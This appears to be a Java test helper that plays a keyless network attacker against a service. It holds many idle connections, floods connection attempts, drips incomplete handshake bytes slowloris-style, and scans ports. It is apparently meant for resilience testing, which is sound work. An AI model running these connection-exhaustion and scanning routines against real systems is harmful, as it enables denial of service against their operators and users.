// SPDX-License-Identifier: Apache-2.0
package dev.jurom.service.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * An attacker on the network without a key. {@code hold ADDRESS PORT COUNT FROM...} opens the given number of
 * silent connections from each address. {@code flood ADDRESS PORT MILLISECONDS} opens connections
 * sequentially. {@code reach ADDRESS PORT...} prints the open ports. {@code drip ADDRESS PORT COUNT} opens
 * connections that send a handshake one byte at a time.
 */
public final class AttackerProgram {

    private static final int STEP_MILLIS = 100;
    private static final int CONNECT_TIMEOUT_MILLIS = 500;
    private static final Duration LIMIT = Duration.ofSeconds(20);

    private AttackerProgram() {}

    /** Executes the attack named by the first argument. */
    public static void main(String[] arguments) throws IOException {
        var address = InetAddress.getByName(arguments[1]);
        switch (arguments[0]) {
            case "hold" ->
                hold(
                        new InetSocketAddress(address, number(arguments[2])),
                        number(arguments[3]),
                        List.of(arguments).subList(4, arguments.length));
            case "flood" ->
                flood(new InetSocketAddress(address, number(arguments[2])), Duration.ofMillis(number(arguments[3])));
            case "reach" -> reach(address, List.of(arguments).subList(2, arguments.length));
            case "drip" -> drip(new InetSocketAddress(address, number(arguments[2])), number(arguments[3]));
            default -> throw new IllegalArgumentException(arguments[0]);
        }
    }

    private static int number(String text) {
        return Integer.parseInt(text);
    }

    private static Socket connect(InetSocketAddress to, String from) throws IOException {
        var socket = new Socket();
        if (from != null) {
            socket.bind(new InetSocketAddress(from, 0));
        }
        socket.connect(to, CONNECT_TIMEOUT_MILLIS);
        socket.setSoTimeout(1);
        return socket;
    }

    private static boolean isOpen(Socket socket) {
        try {
            return socket.getInputStream().read() >= 0;
        } catch (SocketTimeoutException e) {
            return true;
        } catch (IOException e) {
            return false;
        }
    }

    private static void hold(InetSocketAddress to, int count, List<String> from) throws IOException {
        var sockets = new ArrayList<Socket>();
        for (var address : from) {
            for (var i = 0; i < count; i++) {
                sockets.add(connect(to, address));
            }
        }
        print("holding " + sockets.size());
        awaitEnd(sockets, () -> {});
    }

    private static void awaitEnd(List<Socket> sockets, Runnable step) {
        var begin = System.nanoTime();
        var left = new ArrayList<>(sockets);
        while (!left.isEmpty() && System.nanoTime() - begin < LIMIT.toNanos()) {
            left.removeIf(socket -> !isOpen(socket));
            step.run();
        }
        print("left " + left.size() + " after " + (System.nanoTime() - begin) / 1_000_000 + " ms");
    }

    private static void drip(InetSocketAddress to, int count) throws IOException {
        var sockets = new ArrayList<Socket>();
        for (var i = 0; i < count; i++) {
            sockets.add(connect(to, null));
        }
        print("holding " + sockets.size());
        var last = new long[] {System.nanoTime()};
        awaitEnd(sockets, () -> {
            if (System.nanoTime() - last[0] > STEP_MILLIS * 1_000_000L) {
                last[0] = System.nanoTime();
                sockets.forEach(AttackerProgram::drop);
            }
        });
    }

    /** The beginning of a record that never completes. */
    private static void drop(Socket socket) {
        try {
            socket.getOutputStream().write(0x16);
        } catch (IOException e) {
            // The connection was closed, which is checked elsewhere.
        }
    }

    private static void flood(InetSocketAddress to, Duration time) throws IOException {
        var begin = System.nanoTime();
        var sockets = new ArrayList<Socket>();
        var count = 0;
        print("flooding");
        while (System.nanoTime() - begin < time.toNanos()) {
            try {
                sockets.add(connect(to, null));
                count++;
            } catch (IOException e) {
                // The backlog is full, or nothing listens at the moment.
            }
            if (sockets.size() > 500) {
                sockets.removeFirst().close();
            }
        }
        print("flooded " + count);
    }

    private static void reach(InetAddress address, List<String> ports) {
        for (var port : ports) {
            try (var socket = new Socket()) {
                socket.connect(new InetSocketAddress(address, number(port)), CONNECT_TIMEOUT_MILLIS);
                print("open " + port);
            } catch (IOException e) {
                print("closed " + port);
            }
        }
    }

    private static void print(String text) {
        System.out.println(text);
        System.out.flush();
    }
}
